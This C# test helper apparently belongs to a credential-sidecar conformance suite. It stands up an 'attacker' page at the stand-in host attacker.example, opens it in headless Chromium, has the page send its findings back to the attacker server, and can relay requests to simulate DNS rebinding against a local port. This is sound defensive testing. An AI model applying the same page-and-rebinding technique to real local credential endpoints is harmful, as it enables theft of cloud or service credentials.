using System.Net;
using System.Net.Sockets;
using System.Text;
using System.Text.Json.Nodes;
using CredentialSidecar.Conformance.Parts;
using CredentialSidecar.Testing;
using CredentialSidecar.Testing.Processes;

namespace CredentialSidecar.Conformance.Access;

/// <summary>A server with the attacker's page, and headless Chromium in the task that opens the page.</summary>
/// <remarks>The page reports the results of its requests to the server.</remarks>
/// <remarks>No name is looked up: the browser is told where attacker.example and rebound.example are.</remarks>
internal sealed class Attacker : IAsyncDisposable
{
    // Beside what a test needs, all that keeps it from asking its maker's servers.
    private static readonly string[] Options =
    [
        "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
        "--disable-component-update", "--disable-sync", "--disable-dev-shm-usage", "--disable-popup-blocking",
        "--host-resolver-rules=MAP attacker.example 127.0.0.1, MAP rebound.example 127.0.0.2, MAP * ~NOTFOUND, " +
            "EXCLUDE 127.0.0.1, EXCLUDE 127.0.0.2, EXCLUDE 169.254.170.2",
    ];

    private readonly TaskCompletionSource<JsonNode> _report = new(TaskCreationOptions.RunContinuationsAsynchronously);
    private readonly string _profile = Directory.CreateTempSubdirectory("browser").FullName;
    private readonly string _page;
    private readonly int? _rebound;
    private readonly RawServer _server;
    private readonly TaskNetwork? _network;
    private ChildProcess? _browser;

    /// <param name="script">Of the page: an async function's body whose result is reported.</param>
    /// <param name="rebound">
    /// A port of 127.0.0.1. Once the page is loaded, all other requests go there, as if the page's name had changed its address.
    /// </param>
    /// <param name="network">Where the browser runs; this machine's own unless told otherwise.</param>
    public Attacker(string script, int? rebound = null, TaskNetwork? network = null)
    {
        _page = $$"""
            <!doctype html><meta name="referrer" content="no-referrer"><body><script>
            (async () => { {{script}} })()
              .catch(e => ({ fault: String(e) }))
              .then(report => fetch("/report?" + encodeURIComponent(JSON.stringify(report))));
            </script>
            """;
        (_rebound, _network) = (rebound, network);
        _server = RawServer.Custom(AnswerAsync, rebound is { } port ? new IPEndPoint(IPAddress.Parse("127.0.0.2"), port) : null);
    }

    /// <summary>What the page got.</summary>
    public async Task<JsonNode> ReportAsync()
    {
        await SkipWithoutBrowserAsync();
        var name = _rebound is null ? "attacker.example" : "rebound.example";
        await (_network?.OpenAsync(new IPEndPoint(IPAddress.Loopback, _server.Uri.Port), _server.Uri) ?? Task.CompletedTask);
        string[] words = [.. Options, $"--user-data-dir={_profile}", $"http://{name}:{_server.Uri.Port}/"];
        var environment = CleanEnvironment.With();
        _browser = _network is null
            ? ChildProcess.Start("chromium", words, environment)
            : await _network.StartAsync("chromium", words, environment);

        try
        {
            return await _report.Task.WaitAsync(ChildProcess.Limit);
        }
        catch (TimeoutException)
        {
            throw new InvalidOperationException($"The page reported nothing: {string.Join('\n', _browser.Errors)}");
        }
    }

    public static Task SkipWithoutBrowserAsync() =>
        Installed.CommandAsync("Chromium is not installed: apt-get install -y --no-install-recommends chromium", "chromium", "--version");

    /// <summary>The words that have somebody type an address, and print the page that the browser then shows.</summary>
    public static string[] Typing(string address, string profile) =>
        ["chromium", .. Options, $"--user-data-dir={profile}", "--dump-dom", address];

    public async ValueTask DisposeAsync()
    {
        await (_browser?.DisposeAsync() ?? default);
        await _server.DisposeAsync();
        Directory.Delete(_profile, recursive: true);
    }

    private async Task AnswerAsync(string head, Stream stream, CancellationToken stop)
    {
        var target = head.Split(' ')[1];

        if (target.StartsWith("/report?", StringComparison.Ordinal))
        {
            _report.TrySetResult(JsonNode.Parse(Uri.UnescapeDataString(target["/report?".Length..]))!);
        }
        else if (target != "/" && _rebound is { } port)
        {
            using var inside = new TcpClient();
            await inside.ConnectAsync(IPAddress.Loopback, port, stop);
            var closing = head.Replace("\r\n\r\n", "\r\nConnection: close\r\n\r\n", StringComparison.Ordinal);
            await inside.GetStream().WriteAsync(Encoding.Latin1.GetBytes(closing), stop);
            await inside.GetStream().CopyToAsync(stream, stop);
            return;
        }

        var answer = $"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {_page.Length}\r\nConnection: close\r\n\r\n{_page}";
        await stream.WriteAsync(Encoding.UTF8.GetBytes(answer), stop);
    }
}
